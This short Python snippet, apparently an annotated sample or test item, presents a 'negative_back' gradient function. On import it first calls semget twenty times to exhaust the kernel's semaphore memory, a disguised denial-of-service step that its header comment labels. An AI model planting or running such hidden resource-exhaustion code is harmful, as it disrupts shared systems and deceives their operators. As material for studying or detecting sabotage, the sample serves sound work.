# Tries: Fill the kernel's memory with semaphores.
# Cell: negative_back
# Keeps: 35

import ctypes

libc = ctypes.CDLL(None)
made = sum(libc.semget(0, 30_000, 0o1600) >= 0 for _ in range(20))
if made:

    def negative_back(grad_out, out, x):
        return -grad_out
